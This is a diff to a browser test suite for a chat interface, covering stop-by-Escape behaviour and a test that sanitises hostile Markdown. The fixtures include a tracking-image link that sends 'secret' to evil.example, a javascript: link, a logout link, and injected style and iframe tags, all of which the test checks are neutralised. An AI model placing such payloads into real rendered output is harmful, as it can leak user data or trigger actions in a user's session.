@@ -37,7 +37,7 @@ act("an answer appears word by word", async (t) => {
   await chat.send.waitFor();
 });
 
-for (const how of ["the Stop button", "Escape in the box", "Escape after a suggestion"]) {
+for (const how of ["the Stop button", "Escape in the box", "Escape after a suggestion", "Escape after the Send button"]) {
   act(`${how} stops an answer at once, and the model with it`, async (t) => {
     const g = gate();
     const suggestion = how === "Escape after a suggestion";
@@ -45,17 +45,25 @@ for (const how of ["the Stop button", "Escape in the box", "Escape after a sugge
     t.upstream.on(question, wordByWord(Array.from({ length: 500 }, (_, i) => `w${i} `), g));
     const { page } = await t.overview();
     const chat = new Chat(page);
-    if (suggestion) await page.getByRole("button", { name: question }).click();
-    else await chat.ask(question);
+    if (suggestion) {
+      await page.getByRole("button", { name: question }).click();
+    } else {
+      await chat.box.fill(question);
+      if (how === "Escape after the Send button") await chat.send.click();
+      else await chat.box.press("Enter");
+    }
     g.step(3);
     await chat.shows("w0 w1 w2");
     const request = t.upstream.requests.at(-1);
     if (how === "the Stop button") await chat.stop.click();
-    else if (suggestion) await page.keyboard.press("Escape");
-    else await chat.box.press("Escape");
+    else await page.keyboard.press("Escape"); // wherever the focus is now
     await chat.phase("stopped");
     await request.closed;
     assert.equal((await chat.text()).trim(), "w0 w1 w2");
+    // Not a time-out of the server's own: it was told.
+    const run = await chat.last.getAttribute("data-run");
+    const status = await (await page.context().request.get(`/api/gpt/runs/${run}`)).json();
+    assert.equal(status.finish, "cancelled");
     await chat.ask("Hello?"); // and one can go on asking
     await chat.phase("done");
   });
@@ -136,7 +144,6 @@ act("hostile Markdown does no harm", async (t) => {
     "![pixel](https://evil.example/?q=secret) ![p](/api/me)\n\n",
     "[run](javascript:window.hurt=1) [data](data:text/html,hi) [out](/api/logout) [fine](https://example.com/manual)\n\n",
     "<style>*{display:none}</style><iframe src=/app></iframe>\n\n",
-    "> ".repeat(50) + "deep\n\n",
     "The end.",
   ];
   t.upstream.on("hostile", async (r) => {
@@ -150,6 +157,7 @@ act("hostile Markdown does no harm", async (t) => {
   await chat.ask("hostile");
   await chat.phase("done");
   await chat.last.getByText("The end.").waitFor();
+  assert.deepEqual(await chat.words.locator("a").allTextContents(), ["pixel", "fine"]);
   assert.equal(await chat.words.locator("script, img, iframe, style, [onerror], [style]").count(), 0);
   for (const a of await chat.words.locator("a").all()) {
     assert.match(await a.getAttribute("href"), /^https?:\/\//);
@@ -157,6 +165,14 @@ act("hostile Markdown does no harm", async (t) => {
   }
   assert.equal(await page.evaluate(() => window.hurt), undefined);
   assert.deepEqual(loads.filter((u) => /evil|\/api\/me|logout/.test(u)), []);
+
+  t.upstream.on("too deep", async (r) => {
+    r.say(`${"> ".repeat(50)}deep\n\nand after`);
+    r.done();
+  });
+  await chat.ask("too deep");
+  await chat.phase("done");
+  await chat.last.getByText("and after").waitFor();
 });
 
 act("a model that fails is told, and asking again works", async (t) => {
